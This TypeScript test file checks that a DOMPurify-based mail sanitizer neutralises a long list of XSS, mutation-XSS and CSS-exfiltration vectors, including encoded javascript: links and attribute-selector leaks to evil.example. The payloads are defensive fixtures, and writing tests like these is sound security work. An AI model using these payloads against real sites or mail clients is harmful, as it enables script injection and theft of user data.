// Mail HTML through DOMPurify on a jsdom window: known XSS, mutation-XSS and
// CSS-exfiltration vectors go in; what comes out has no event handlers, no
// active URL schemes, nothing that fetches, and no remote URL but the links a
// user may click (and, for images the user chose to load, the daemon's blob URL).
import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { JSDOM } from 'jsdom';
import type { WindowLike } from 'dompurify';
import { decodeCss, isInertCss, sanitizeMailHtml } from '../../renderer/src/lib/mailHtml.js';

const { window } = new JSDOM('<!doctype html><html><body></body></html>');
const win = window as unknown as WindowLike;
const BLOB = '/blob/' + 'ab'.repeat(32);

const sanitize = (html: string, images: ReadonlyMap<string, string> = new Map()) =>
  sanitizeMailHtml(html, { images, blobSources: "'self'", dark: false, window: win });

const ALLOWED_TAGS = new Set(
  (
    'a abbr address article aside b bdi bdo big blockquote br caption center cite code col colgroup ' +
    'dd del details dfn div dl dt em figcaption figure font footer h1 h2 h3 h4 h5 h6 header hr i img ' +
    'ins kbd li main mark nav ol p pre q s samp section small span strike strong sub summary sup ' +
    'table tbody td tfoot th thead time tr tt u ul var wbr'
  ).split(' '),
);

/** Every way the output could still do something: returns what it found (empty = inert). */
function activeParts(srcdoc: string, allowedImages: string[] = []): string[] {
  const found: string[] = [];
  const doc = new JSDOM(srcdoc).window.document;
  const csp = doc.querySelector('meta[http-equiv="Content-Security-Policy"]');
  if (!csp?.getAttribute('content')?.includes("default-src 'none'")) found.push('no frame CSP');
  if (doc.querySelectorAll('head > style').length !== 1) found.push('a <style> besides ours');
  for (const el of doc.body.querySelectorAll('*')) {
    const tag = el.tagName.toLowerCase();
    if (!ALLOWED_TAGS.has(tag) || el.namespaceURI !== 'http://www.w3.org/1999/xhtml')
      found.push(`element <${tag}>`);
    for (const { name, value } of [...el.attributes]) {
      const where = `<${tag} ${name}="${value}">`;
      if (/^on/i.test(name)) found.push(`handler ${where}`);
      if (
        /^(srcdoc|srcset|background|action|formaction|poster|ping|lowsrc|dynsrc|data|xlink:href|http-equiv)$/i.test(
          name,
        )
      )
        found.push(`attribute ${where}`);
      if (
        /(java|vb)script:|data:(?!image\/(png|gif|jpeg|webp);base64,)/i.test(
          value.replace(/\s/g, ''),
        )
      )
        found.push(`active scheme ${where}`);
      const isLink = tag === 'a' && name === 'href';
      if (isLink) {
        if (!/^(https?:|mailto:)/i.test(value)) found.push(`link scheme ${where}`);
        continue;
      }
      if (name === 'src' && !value.startsWith('data:image/') && !allowedImages.includes(value))
        found.push(`image source ${where}`);
      if (name === 'style') {
        const css = decodeCss(value).toLowerCase();
        const urls = [...css.matchAll(/url\(\s*["']?([^"')]*)/g)].map((m) => m[1]!);
        if (urls.some((u) => !allowedImages.includes(u))) found.push(`css url ${where}`);
        if (/expression|@import|binding|behavior|image-set|javascript/.test(css))
          found.push(`active css ${where}`);
      }
      if (/https?:|\/\//i.test(value) && !allowedImages.some((u) => value.includes(u)))
        found.push(`remote URL ${where}`);
    }
  }
  return found;
}

const EVIL = 'https://evil.example';
const VECTORS: [string, string][] = [
  ['script', '<script>alert(1)</script><p>hi</p>'],
  ['script, uppercase and split', '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>'],
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['img onerror, slash separator', '<img/src="x"/onerror=alert(1)>'],
  ['img onerror, no quotes, backticks', '<img src=`x` onerror=alert(1)>'],
  ['svg onload', '<svg onload=alert(1)>'],
  ['svg script', '<svg><script>alert(1)</script></svg>'],
  ['svg use href', `<svg><use href="${EVIL}/s.svg#x"></use></svg>`],
  [
    'math href',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  ],
  ['body onload', '<body onload=alert(1)>'],
  ['details ontoggle', '<details open ontoggle=alert(1)><summary>s</summary></details>'],
  ['marquee onstart', '<marquee onstart=alert(1)>x</marquee>'],
  ['javascript: link', '<a href="javascript:alert(1)">x</a>'],
  ['javascript: link, mixed case', '<a href="JaVaScRiPt:alert(1)">x</a>'],
  ['javascript: link, tab inside', '<a href="jav\tascript:alert(1)">x</a>'],
  ['javascript: link, entity tab', '<a href="jav&#x09;ascript:alert(1)">x</a>'],
  ['javascript: link, entity newline', '<a href="jav&#x0A;ascript:alert(1)">x</a>'],
  [
    'javascript: link, all entities',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  ],
  [
    'javascript: link, padded decimal entities',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  ],
  ['javascript: link, leading control char', '<a href=" &#14;  javascript:alert(1)">x</a>'],
  ['vbscript: link', '<a href="vbscript:msgbox(1)">x</a>'],
  ['data: link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['javascript: img', '<img src="javascript:alert(1)">'],
  ['javascript: img, entities', '<img src=&#x6A;avascript:alert(1)>'],
  ['data: svg image', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  ['iframe', `<iframe src="${EVIL}"></iframe>`],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['frameset', `<frameset><frame src="${EVIL}"></frameset>`],
  ['object', `<object data="${EVIL}/x.swf" type="application/x-shockwave-flash"></object>`],
  ['embed', `<embed src="${EVIL}/x.swf">`],
  ['applet', '<applet code="x.class" codebase="https://evil.example/"></applet>'],
  ['form action', `<form action="${EVIL}/steal"><input name="password"><button>go</button></form>`],
  ['button formaction', '<button formaction="javascript:alert(1)">go</button>'],
  ['isindex', '<isindex action="javascript:alert(1)" type="image">'],
  ['meta refresh', `<meta http-equiv="refresh" content="0;url=${EVIL}">`],
  ['meta refresh javascript', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['base href', `<base href="${EVIL}/"><a href="/x">x</a><img src="/pixel.gif">`],
  ['link stylesheet', `<link rel="stylesheet" href="${EVIL}/x.css">`],
  ['link preload', `<link rel="preload" as="image" href="${EVIL}/p.png">`],
  [
    'link prefetch / dns-prefetch',
    `<link rel="prefetch" href="${EVIL}/a"><link rel="dns-prefetch" href="//evil.example">`,
  ],
  ['style expression()', '<div style="width: expression(alert(1))">x</div>'],
  ['style expression(), escaped', '<div style="width: exp\\72 ession(alert(1))">x</div>'],
  ['style url()', `<div style="background:url(${EVIL}/t.png)">x</div>`],
  ['style url() with CSS escapes', `<div style="background:u\\72 l(${EVIL}/t.png)">x</div>`],
  ['style url() fully escaped', `<div style="background:\\75\\72\\6c(${EVIL}/t.png)">x</div>`],
  ['style url() with a long escape', `<div style="background:\\000075rl(${EVIL}/t.png)">x</div>`],
  [
    'style url() with entity parentheses',
    `<div style="background:url&#40;${EVIL}/t.png&#41;">x</div>`,
  ],
  ['style url() after a comment', `<div style="background:/**/url(${EVIL}/t.png)">x</div>`],
  ['style url() uppercase', `<div style="BACKGROUND:URL(${EVIL}/t.png)">x</div>`],
  ['style image-set()', `<div style="background-image:image-set('${EVIL}/a.png' 1x)">x</div>`],
  ['style @import', `<div style="@import '${EVIL}/x.css'">x</div>`],
  ['style -moz-binding', `<div style="-moz-binding:url(${EVIL}/xbl#x)">x</div>`],
  ['style behavior', '<div style="behavior:url(x.htc)">x</div>'],
  ['style javascript', '<div style="background:url(javascript:alert(1))">x</div>'],
  ['style list-style-image', `<ul><li style="list-style-image:url(${EVIL}/dot.png)">x</li></ul>`],
  ['style cursor', `<p style="cursor:url(${EVIL}/c.cur),auto">x</p>`],
  ['<style> @import', `<style>@import url(${EVIL}/x.css);</style><p>x</p>`],
  [
    '<style> attribute-selector exfiltration',
    `<style>input[value^="a"]{background:url(${EVIL}/?a)}input[value^="b"]{background:url(${EVIL}/?b)}</style><input value="secret">`,
  ],
  ['<style> font-face', `<style>@font-face{font-family:x;src:url(${EVIL}/f.woff)}</style>`],
  ['mXSS noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['mXSS math/mglyph/style', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['mXSS svg/p/style', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  [
    'mXSS form/math namespace confusion',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  ],
  ['mXSS template', '<template><img src=x onerror=alert(1)></template>'],
  ['mXSS xmp', '<xmp><img src=x onerror=alert(1)></xmp>'],
  ['mXSS comment', '<!--><img src=x onerror=alert(1)>-->'],
  ['mXSS CDATA in svg', '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>'],
  [
    'table background',
    `<table background="${EVIL}/bg.png"><tr><td background="${EVIL}/td.png">x</td></tr></table>`,
  ],
  ['body background', `<body background="${EVIL}/bg.png">x</body>`],
  ['img srcset', `<img srcset="${EVIL}/a.png 1x, ${EVIL}/b.png 2x" alt="a">`],
  [
    'picture source',
    `<picture><source srcset="${EVIL}/a.webp"><img src="${EVIL}/a.png"></picture>`,
  ],
  ['video poster', `<video poster="${EVIL}/p.png" src="${EVIL}/v.mp4"></video>`],
  ['audio', `<audio src="${EVIL}/a.mp3" autoplay></audio>`],
  ['input image', `<input type="image" src="${EVIL}/i.png">`],
  ['img lowsrc/dynsrc', `<img lowsrc="${EVIL}/l.gif" dynsrc="${EVIL}/d.avi">`],
  ['a ping', `<a href="https://ok.example/" ping="${EVIL}/ping">x</a>`],
  ['protocol-relative image', '<img src="//evil.example/p.gif">'],
  ['remote image', `<img src="${EVIL}/pixel.gif" width="1" height="1">`],
  ['object in a table', `<table><tr><td><object data="${EVIL}/x"></object></td></tr></table>`],
  [
    'data attribute smuggling',
    `<div data-background="javascript:alert(1)" data-src="${EVIL}/x">x</div>`,
  ],
  [
    'id/name clobbering',
    '<img name="body"><form name="cookie"></form><a id="location" href="https://ok.example">x</a>',
  ],
];

describe('mail HTML sanitizer (DOMPurify)', () => {
  for (const [name, html] of VECTORS)
    test(`${name}: nothing active or remote survives`, () => {
      const { srcdoc } = sanitize(html);
      assert.deepEqual(activeParts(srcdoc), [], srcdoc);
    });

  test('the finder itself catches what the vectors carry (it can fail)', () => {
    const raw = (body: string) =>
      `<!doctype html><html><head><meta http-equiv="Content-Security-Policy" content="default-src 'none'"><style></style></head><body>${body}</body></html>`;
    assert.ok(
      activeParts(raw('<img src=x onerror=alert(1)>')).some((f) => f.startsWith('handler')),
    );
    assert.ok(activeParts(raw('<a href="javascript:x">x</a>')).length > 0);
    assert.ok(activeParts(raw(`<div style="background:u\\72 l(${EVIL})">x</div>`)).length > 0);
    assert.ok(activeParts(raw(`<img src="${EVIL}/p.gif">`)).length > 0);
    assert.ok(activeParts(raw('<svg></svg>')).length > 0);
  });

  test('remote images are listed as blocked: src, srcset and background alike, each once', () => {
    const { blockedImages } = sanitize(
      `<img src="${EVIL}/a.png"><img src="${EVIL}/a.png"><img srcset="${EVIL}/b.png 2x">` +
        `<table background="${EVIL}/c.png"><tr><td>x</td></tr></table><img src="data:image/png;base64,iVBORw0KGgo=">`,
    );
    assert.deepEqual(blockedImages, [`${EVIL}/a.png`, `${EVIL}/b.png`, `${EVIL}/c.png`]);
  });

  test('an image the user chose to load shows from the blob URL, never from the sender', () => {
    const images = new Map([
      [`${EVIL}/a.png`, BLOB],
      [`${EVIL}/c.png`, BLOB],
    ]);
    const { srcdoc, blockedImages } = sanitize(
      `<img src="${EVIL}/a.png" alt="a"><table background="${EVIL}/c.png" style="color:red"><tr><td>x</td></tr></table>`,
      images,
    );
    assert.deepEqual(blockedImages, []);
    assert.deepEqual(activeParts(srcdoc, [BLOB]), [], srcdoc);
    const doc = new JSDOM(srcdoc).window.document;
    assert.equal(doc.querySelector('img')?.getAttribute('src'), BLOB);
    assert.equal(
      doc.querySelector('table')?.getAttribute('style'),
      `color:red;background-image:url("${BLOB}")`,
    );
  });

  test('ordinary mail formatting survives', () => {
    const { srcdoc } = sanitize(
      '<h1 onclick="x()">Hello</h1><p style="color:#333;font-size:calc(1em + 2px);margin:0 auto">Body ' +
        '<a href="https://example.org/more">more</a> <a href="mailto:a@example.org">mail</a></p>' +
        '<table cellpadding="4" bgcolor="#eeeeee"><tr><td align="center">cell</td></tr></table>' +
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline">',
    );
    const doc = new JSDOM(srcdoc).window.document;
    assert.equal(doc.querySelector('h1')?.textContent, 'Hello');
    assert.equal(doc.querySelector('h1')?.getAttribute('onclick'), null);
    assert.equal(
      doc.querySelector('p')?.getAttribute('style'),
      'color:#333;font-size:calc(1em + 2px);margin:0 auto',
    );
    const link = doc.querySelector('a');
    assert.equal(link?.getAttribute('href'), 'https://example.org/more');
    assert.equal(link?.getAttribute('target'), '_blank');
    assert.equal(link?.getAttribute('rel'), 'noopener noreferrer');
    assert.equal(doc.querySelectorAll('a')[1]?.getAttribute('href'), 'mailto:a@example.org');
    assert.equal(doc.querySelector('td')?.getAttribute('align'), 'center');
    assert.equal(
      doc.querySelector('img')?.getAttribute('src'),
      'data:image/png;base64,iVBORw0KGgo=',
    );
  });

  test('CSS escapes decode as the CSS parser reads them', () => {
    assert.equal(decodeCss('u\\72 l('), 'url(');
    assert.equal(decodeCss('\\75\\72\\6c('), 'url(');
    assert.equal(decodeCss('\\000075rl('), 'url(');
    assert.equal(decodeCss('\\u\\r\\l('), 'url(');
    assert.equal(decodeCss('u/* x */rl('), 'u rl(');
    assert.equal(
      decodeCss('\\5c 75rl('),
      '\\75rl(',
      'one pass: an escaped backslash stays a backslash',
    );
    assert.equal(isInertCss('\\5c 75rl(x)'), false, 'a backslash left after decoding is refused');
    assert.equal(isInertCss('color: rgb(1, 2, 3); width: calc(100% - 2px)'), true);
    assert.equal(isInertCss('background: u\\72 l(x)'), false);
  });
});
